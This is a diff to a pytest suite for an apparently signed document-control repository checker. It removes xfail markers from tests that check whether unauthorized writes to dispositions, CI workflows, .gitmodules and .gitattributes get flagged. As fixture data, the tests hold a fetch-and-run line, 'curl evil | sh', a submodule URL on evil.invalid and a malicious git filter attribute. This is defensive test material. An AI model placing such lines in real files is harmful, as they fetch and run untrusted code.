@@ -224,8 +224,6 @@ def test_removed_person_signing_the_rollback_merge(removed: Path, keys: Keys) ->
 
 
 # == 4. Every changed path is judged ====================================================
-@xfail("judge.judged_paths skips dispositions/, and records.RecordBook.record looks at a "
-       "disposition only when it changes an existing one")
 def test_disposition_naming_a_live_permanent_record(repo: Path, keys: Keys) -> None:
     path = write_disposition(repo, disp_id="DISP-20260101-M-0badf00d", when=utcnow(),
                              party="fab", signer="zhao.min", notice="TX-20260101-M-0badf00d",
@@ -235,36 +233,24 @@ def test_disposition_naming_a_live_permanent_record(repo: Path, keys: Keys) -> N
     assert_found(repo, "UNAUTHORIZED_CHANGE", commit=bad)
 
 
-@xfail("anything new under dispositions/ is never judged (judge.judged_paths, "
-       "records.RecordBook.record) nor listed (model.policy.FORMAT_PREFIXES)")
 def test_any_file_under_dispositions(repo: Path, keys: Keys) -> None:
     bad = zhao_writes(repo, keys, "dispositions/payload.sh", b"#!/bin/sh\ncurl evil | sh\n")
     assert_found(repo, {"UNAUTHORIZED_CHANGE", "MANIFEST_INVALID", "TRANSFER_INVALID"}, commit=bad)
 
 
-HOUSEKEEPING_BY_DOC_CONTROL = xfail(
-    "defaults.policy_yaml lets either doc-control write housekeeping files (rule 3, "
-    "controlled: False, no ack); DESIGN 2.1: either quality head, ack: approved")
 CONTENT = {".gitmodules": b'[submodule "x"]\n\tpath = x\n\turl = https://evil.invalid/x\n',
            ".gitattributes": b"*.pdf filter=evil\n"}
 
 
 @pytest.mark.parametrize("path", [
-    pytest.param(".gitattributes", marks=HOUSEKEEPING_BY_DOC_CONTROL),
-    pytest.param(".github/workflows/x.yml", marks=HOUSEKEEPING_BY_DOC_CONTROL),
-    pytest.param(".gitlab-ci.yml", marks=HOUSEKEEPING_BY_DOC_CONTROL),
-    ".gitmodules", "tools/run.sh", "transfers/TX-20260101-M-0badf00d/payload.pdf"])
+    ".gitattributes", ".github/workflows/x.yml", ".gitlab-ci.yml", ".gitmodules", "tools/run.sh",
+    "transfers/TX-20260101-M-0badf00d/payload.pdf"])
 def test_zhao_changes_a_path_no_rule_gives_him(repo: Path, keys: Keys, path: str) -> None:
     bad = zhao_writes(repo, keys, path, CONTENT.get(path, b"run: curl evil | sh\n"))
     assert_found(repo, "UNAUTHORIZED_CHANGE", commit=bad, path=path)
 
 
-@pytest.mark.parametrize("path", [
-    pytest.param(".gitattributes", marks=xfail(
-        "the default housekeeping rule has no ack: one quality head changes it alone")),
-    pytest.param(".github/workflows/x.yml", marks=xfail(
-        "the default housekeeping rule has no ack: one quality head changes it alone")),
-    ".gitmodules"])
+@pytest.mark.parametrize("path", [".gitattributes", ".github/workflows/x.yml", ".gitmodules"])
 def test_one_quality_head_alone_changes_housekeeping(repo: Path, keys: Keys, path: str) -> None:
     bad = zhao_writes(repo, keys, path, CONTENT.get(path, b"run: curl evil | sh\n"), who="li")
     assert_found(repo, {"CHANGE_NOT_APPROVED", "UNAUTHORIZED_CHANGE"}, commit=bad,
@@ -302,8 +288,6 @@ def test_distribution_recorded_by_a_person_without_the_role(repo: Path, keys: Ke
     assert_found(repo, "UNAUTHORIZED_CHANGE", commit=bad, path=path)
 
 
-@xfail("a disposition is schema-checked only when a manifest of the same commit marks a "
-       "record destroyed (records._disposition_for)")
 def test_schema_invalid_disposition(repo: Path, keys: Keys) -> None:
     bad = zhao_writes(repo, keys, "dispositions/DISP-20260101-R-0badf00d.yaml",
                       b"id: DISP-20260101-R-0badf00d\nrecords: nothing\n", who="wang")
